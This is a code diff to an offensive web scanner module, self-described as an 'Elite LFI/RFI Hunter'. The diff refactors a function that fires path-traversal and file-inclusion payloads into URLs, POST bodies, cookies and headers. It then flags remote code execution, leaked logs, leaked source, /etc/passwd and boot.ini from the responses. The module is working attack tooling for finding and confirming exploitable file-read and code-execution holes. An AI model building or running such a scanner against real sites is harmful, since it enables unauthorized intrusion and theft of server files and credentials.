@@ -1,9 +1,16 @@
-from core import Requester, logger
+from core import logger, config, default_requester
+from core.signatures import match_response
+from core.results import Hit, response_size
 from typing import Optional, Dict, Any
 import urllib.parse
 
-# This keeps the HTTP/2 connection open for all threads to share!
-req = Requester()
+# One Requester for the whole module: its SessionPool hands every worker thread
+# its own tls_client session (keep-alive + cookie jar), so sharing it is safe.
+# It's core's shared one, built on the first shot rather than on import.
+
+# Signatures that settle the verdict — with config.STREAM the body is cut off at the first one
+VERDICT_SIGNATURES = {"rce.marker", "rce.uid_gid", "leak.log_file", "leak.source_code",
+                      "lfi.passwd", "lfi.boot_ini"}
 
 def check_traversal(
     payload: str,
@@ -12,7 +19,7 @@ def check_traversal(
     post_data: Optional[Dict[str, Any]] = None,
     cookies: Optional[Dict[str, str]] = None,
     headers: Optional[Dict[str, str]] = None
-) -> Optional[str]:
+) -> Optional[Hit]:
     """
     Elite LFI/RFI Hunter v4.1 — The "No Mercy" Edition.
     Now correctly injects payloads into Cookies and Headers.
@@ -64,8 +71,21 @@ def check_traversal(
     if "passwd" in target or "boot.ini" in target: # Only print for interesting ones to avoid spam
         logger.debug(f"🔫 SHOOTING: {target}")
 
+    req = default_requester()
     try:
-        if effective_method == "POST":
+        if config.STREAM:
+            # Early Whistle: a 200 MB access.log costs STREAM_MAX_BYTES, not 200 MB
+            res = req.stream(
+                effective_method,
+                target,
+                data=effective_data if effective_method == "POST" else None,
+                cookies=effective_cookies,
+                headers=effective_headers,
+                stop_on=VERDICT_SIGNATURES,
+                allow_redirects=False,
+                timeout=12
+            )
+        elif effective_method == "POST":
             res = req.post(
                 url=target,
                 data=effective_data,
@@ -88,28 +108,27 @@ def check_traversal(
     if not res:
         return None
 
-    content = res.text
-    size = len(content)
+    hits = match_response(res)
+    size = response_size(res)
+    found = lambda text, sig: Hit(text, url=target, payload=payload, response=res, signature=sig, size=size)
+
+    # ———— 6. VAR Review (Signatures — one pass, see core/data/signatures) ————
 
-    # ———— 6. VAR Review (Signatures) ————
-    
     # RCE Check
-    if "RCE_CONFIRMED_SANCHEZ" in content or ("uid=" in content and "gid=" in content):
-        return f"🚨 RCE ACHIEVED → {target} ({size:,} bytes)"
+    if "rce.marker" in hits or "rce.uid_gid" in hits:
+        signature = "rce.marker" if "rce.marker" in hits else "rce.uid_gid"
+        return found(f"🚨 RCE ACHIEVED → {target} ({size:,} bytes)", signature)
 
     # Log File Check
-    log_signatures = ["GET /", "User-Agent:", "[LOG] Hit from UA:", "Apache/2", "127.0.0.1 - - ["]
-    if any(sig in content for sig in log_signatures):
-        return f"🪵 LOG FILE FOUND → {target} ({size:,} bytes)"
+    if "leak.log_file" in hits:
+        return found(f"🪵 LOG FILE FOUND → {target} ({size:,} bytes)", "leak.log_file")
 
     # Source Code Check (For lab.py)
-    source_sigs = ["def home():", "import os", "from flask", "<?php", "#!/usr/bin/env"]
-    if any(sig in content for sig in source_sigs):
-        if "<html" not in content.lower():
-            return f"📜 SOURCE CODE LEAK → {target} ({size:,} bytes)"
+    if "leak.source_code" in hits and "page.html" not in hits:
+        return found(f"📜 SOURCE CODE LEAK → {target} ({size:,} bytes)", "leak.source_code")
 
     # Standard LFI Checks
-    if "root:x:0:0:" in content: return f"🔥 LFI (Linux) → {target}"
-    if "[boot loader]" in content: return f"🔥 LFI (Windows) → {target}"
+    if "lfi.passwd" in hits: return found(f"🔥 LFI (Linux) → {target}", "lfi.passwd")
+    if "lfi.boot_ini" in hits: return found(f"🔥 LFI (Windows) → {target}", "lfi.boot_ini")
 
-    return None
\ No newline at end of file
+    return None